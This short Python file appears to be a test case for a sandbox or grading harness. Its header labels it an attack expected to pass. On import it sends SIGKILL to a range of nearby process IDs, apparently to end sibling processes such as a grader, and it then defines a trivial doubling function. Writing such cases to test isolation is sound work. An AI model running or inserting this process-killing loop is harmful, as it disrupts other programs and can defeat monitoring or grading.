# attack: ends the processes that started around it | expect: pass
import os
import signal

for pid in range(os.getppid() + 1, os.getpid() + 40):
    if pid != os.getpid():
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass


def double(x):
    return 2 * x
